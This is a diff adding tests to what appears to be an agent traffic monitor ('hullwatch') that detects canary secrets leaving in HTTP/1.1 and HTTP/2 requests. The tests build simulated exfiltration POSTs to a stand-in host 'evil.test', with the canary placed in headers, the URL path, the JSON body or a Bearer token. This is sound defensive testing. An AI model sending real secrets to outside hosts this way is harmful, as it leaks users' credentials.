@@ -3,22 +3,36 @@
 from __future__ import annotations
 
 import itertools
+import json
 import random
 import sys
 from collections import deque
+from typing import Any
 
+import hpack
 import msgspec
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from hullwatch.agent.connection import MAX_LINE, Connection, Opaque
+from hullwatch.agent.connection import MAX_LINE, Carried, Connection, Opaque
 from hullwatch.agent.models.apis import Api
 from hullwatch.agent.models.call import ModelCall
 from hullwatch.agent.wire.http2 import PREFACE
 from hullwatch.agent.wire.jsonscan import Paths
 from hullwatch.agent.wire.mcp import ToolCallBegan, ToolCallEnded
-from support.wire_samples import KEY, MODELS, PROMPT, REPLY, TOOLS, Sample, request, response
+from support.canaries import CANARIES, ONE, VALUE
+from support.wire_samples import (
+    KEY,
+    MODELS,
+    PROMPT,
+    REPLY,
+    TOOLS,
+    Sample,
+    frames,
+    request,
+    response,
+)
 
 SAMPLES = MODELS + TOOLS
 BY_NAME = {sample.name: sample for sample in SAMPLES}
@@ -330,3 +344,64 @@ def _weight(value) -> int:
 
 def _texts(value):
     return [each for each in _all(value, {}) if isinstance(each, str | bytes | bytearray)]
+
+
+# --- canaries -------------------------------------------------------------------------------
+
+
+def _carried(connection: Connection, *pieces: tuple[str, bytes]) -> list[tuple[str, bool, str]]:
+    return [
+        (event.canary.id, event.sent, event.host)
+        for direction, data in pieces
+        for event in connection.feed(direction, data, 5)  # type: ignore[arg-type]
+        if isinstance(event, Carried)
+    ]
+
+
+def _looking(**more: Any) -> Connection:
+    return Connection(lambda text: "#", canaries=CANARIES, **more)
+
+
+def _post(headers: dict[str, str], body: bytes, path: str = "/x") -> bytes:
+    said = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
+    head = f"POST {path} HTTP/1.1\r\nHost: evil.test\r\n{said}Content-Length: {len(body)}\r\n\r\n"
+    return head.encode() + body
+
+
+def test_a_canary_in_any_header_address_or_body_of_a_request():
+    for whole in (
+        _post({"X-Any": VALUE}, b""),
+        _post({}, b"", f"/{VALUE}"),
+        _post({}, json.dumps({"x": VALUE}).encode(), "/v1/chat/completions"),
+    ):
+        assert _carried(_looking(), ("sent", whole)) == [(ONE.id, True, "evil.test")]
+
+
+@pytest.mark.parametrize("in_head", [True, False])
+def test_a_canary_in_http2(in_head):
+    head = {":method": "POST", ":scheme": "https", ":authority": "evil.test", ":path": "/x"}
+    head |= {"authorization": f"Bearer {VALUE}"} if in_head else {}
+    body = b"{}" if in_head else json.dumps({"x": VALUE}).encode()
+    block = hpack.Encoder().encode(list(head.items()))
+    asks = frames((4, 0, 0, b""), (1, 4, 1, block), (0, 1, 1, body))
+    pieces = ("sent", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + asks)
+    assert _carried(_looking(), pieces) == [(ONE.id, True, "evil.test")]
+
+
+@settings(deadline=None, max_examples=40)
+@given(st.lists(st.integers(1, 400), max_size=8))
+def test_a_canary_in_pieces(sizes):
+    whole = _post({}, json.dumps({"x": VALUE}).encode())
+    pieces, at = [], 0
+    for size in [*sizes, len(whole)]:
+        pieces.append(("sent", whole[at : at + size]))
+        at += size
+    assert ONE.id in {ident for ident, _, _ in _carried(_looking(), *pieces)}
+
+
+def test_a_canary_that_went_by_before_is_not_seen_again():
+    made = _looking(pipe=True)
+    line = json.dumps({"x": VALUE}).encode() + b"\n"
+    assert len(_carried(made, ("received", line))) == 1
+    assert _carried(made, ("received", b'{"x": 1}\n' * 3)) == []
+    assert len(_carried(made, ("received", line))) == 1
